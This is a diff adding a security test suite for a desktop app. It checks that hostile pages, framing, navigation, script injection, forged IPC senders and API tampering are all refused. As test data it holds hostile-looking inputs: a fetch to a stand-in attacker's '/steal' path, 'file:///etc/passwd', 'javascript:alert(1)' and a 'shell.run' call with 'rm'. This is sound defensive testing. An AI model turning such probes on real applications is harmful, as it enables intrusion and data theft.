@@ -1,0 +1,153 @@
+import { createServer } from 'node:http';
+import { afterAll, beforeAll, expect, it } from 'vitest';
+import { until } from '#tests/support/until.ts';
+import { closeBrowser, type Desktop, launchDesktop } from './support/launch.ts';
+import { connect } from './support/person.ts';
+
+let desktop: Desktop;
+let evil: { origin: string; visits: string[]; close(): void };
+
+beforeAll(async () => {
+  const visits: string[] = [];
+  const server = createServer((request, response) => {
+    visits.push(request.url ?? '');
+    response.setHeader('content-type', 'text/html');
+    response.end('<script>document.title = typeof window.secondFret</script>');
+  });
+  await new Promise<void>((listening) => server.listen(0, '127.0.0.1', listening));
+  const address = server.address();
+  const port = typeof address === 'object' ? address?.port : 0;
+  evil = { origin: `http://localhost:${port}`, visits, close: () => server.close() };
+  desktop = await launchDesktop();
+  await connect(desktop);
+});
+afterAll(async () => {
+  await desktop?.close();
+  evil?.close();
+  await closeBrowser();
+});
+
+/** What every attack must leave: the page where it was, and answering. */
+async function expectAlive() {
+  expect(desktop.windows).toHaveLength(1);
+  expect(desktop.page.context().pages()).toHaveLength(1);
+  expect(new URL(desktop.page.url()).pathname).toBe('/');
+  expect(await desktop.page.evaluate(() => window.secondFret?.server?.current())).toMatch(/^http/);
+}
+
+it('loads no hostile page in a frame', async () => {
+  await desktop.page.evaluate((src) => {
+    document.body.append(Object.assign(document.createElement('iframe'), { src, id: 'evil' }));
+  }, `${evil.origin}/frame`);
+  await until(() => desktop.log().includes('refused a frame') || blocked(), 'it is refused');
+  expect(evil.visits).toEqual([]);
+  await desktop.page.evaluate(() => document.getElementById('evil')?.remove());
+  await expectAlive();
+});
+
+/** The policy may be faster than the guard. */
+async function blocked(): Promise<boolean> {
+  return desktop.page.frames().some((frame) => frame.url().startsWith('chrome-error:'));
+}
+
+it('lets the main frame go nowhere', async () => {
+  for (const url of [`${evil.origin}/main`, 'file:///etc/passwd', 'https://evil.test/?a=b']) {
+    await desktop.page.evaluate((to) => {
+      location.href = to;
+    }, url);
+  }
+  await until(() => desktop.opened.includes('https://evil.test/?a=b'), 'the system gets the link');
+  expect(desktop.opened).toEqual(['https://evil.test/?a=b']);
+  expect(evil.visits).toEqual([]);
+  await expectAlive();
+});
+
+it('opens no window', async () => {
+  await desktop.page.evaluate((to) => void window.open(to), `${evil.origin}/popup`);
+  await until(() => desktop.page.context().pages().length === 1, 'no window stays');
+  await expectAlive();
+});
+
+it('runs no script but ours', async () => {
+  const ran = await desktop.page.evaluate(async (origin) => {
+    const results: Record<string, boolean> = {};
+    const script = document.createElement('script');
+    script.textContent = 'window.inline = true';
+    document.body.append(script);
+    results.inline = 'inline' in window;
+    results.foreign = await new Promise((resolve) => {
+      const foreign = Object.assign(document.createElement('script'), {
+        src: `${origin}/x.js`,
+        onload: () => resolve(true),
+        onerror: () => resolve(false),
+      });
+      document.body.append(foreign);
+    });
+    results.fetch = await fetch(`${origin}/steal`).then(
+      () => true,
+      () => false,
+    );
+    return results;
+  }, evil.origin);
+  expect(ran).toEqual({ inline: false, foreign: false, fetch: false });
+  expect(evil.visits).toEqual([]);
+  await expectAlive();
+});
+
+it('refuses a forged sender, an unknown channel and a wrong shape', async () => {
+  const frame = { url: `${evil.origin}/`, parent: null, frameTreeNodeId: 1 };
+  const forged = { sender: { id: 99, mainFrame: frame }, senderFrame: frame };
+  await expect(desktop.invoke(forged, 'session.present')).rejects.toThrow('not from our page');
+  await expect(desktop.invoke(forged, 'shell.run', 'rm')).rejects.toThrow('No handler');
+  const answers = await desktop.page.evaluate(async () => {
+    const { secondFret } = window;
+    const tell = (error: Error) => error.message;
+    const anything = secondFret as never as Record<string, (given: unknown) => Promise<unknown>>;
+    return Promise.all([
+      secondFret?.openExternal('file:///etc/passwd').catch(tell),
+      secondFret?.openExternal('javascript:alert(1)').catch(tell),
+      anything.openExternal?.({ toString: 'https://evil.test' }).catch(tell),
+      secondFret?.session.save({} as never).catch(tell),
+      secondFret?.server?.choose('x'.repeat(5_000_000)).catch(tell),
+    ]);
+  });
+  expect(answers.map(String)).toEqual([
+    expect.stringContaining('external.open: failed'),
+    expect.stringContaining('external.open: failed'),
+    expect.stringContaining('external.open: wrong shape'),
+    expect.stringContaining('session.save: wrong shape'),
+    expect.stringContaining('server.choose: wrong shape'),
+  ]);
+  expect(desktop.opened.every((url) => url.startsWith('https:'))).toBe(true);
+  await expectAlive();
+});
+
+it('can’t be changed from the page', async () => {
+  const changed = await desktop.page.evaluate(() => {
+    const before = window.secondFret;
+    try {
+      Object.assign(window, { secondFret: { session: {} } });
+    } catch {}
+    try {
+      Object.assign(before?.session ?? {}, { save: () => 'stolen' });
+    } catch {}
+    return window.secondFret !== before || String(before?.session.save).includes('stolen');
+  });
+  expect(changed).toBe(false);
+  await expectAlive();
+});
+
+it('gives pages elsewhere no answer of the API', async () => {
+  const stranger = new Request('app://second-fret/api/config', {
+    headers: { origin: evil.origin },
+  });
+  expect((await desktop.scheme(stranger)).status).toBe(403);
+  expect((await desktop.scheme(new Request('app://evil/api/config'))).status).toBe(404);
+});
+
+it('denies the page what it may ask of the machine', async () => {
+  const deny = desktop.session.get('setPermissionCheckHandler') as (...given: unknown[]) => boolean;
+  const contents = desktop.windows[0]?.webContents;
+  expect(deny(contents, 'geolocation')).toBe(false);
+  expect(deny(contents, 'clipboard-sanitized-write')).toBe(false);
+});
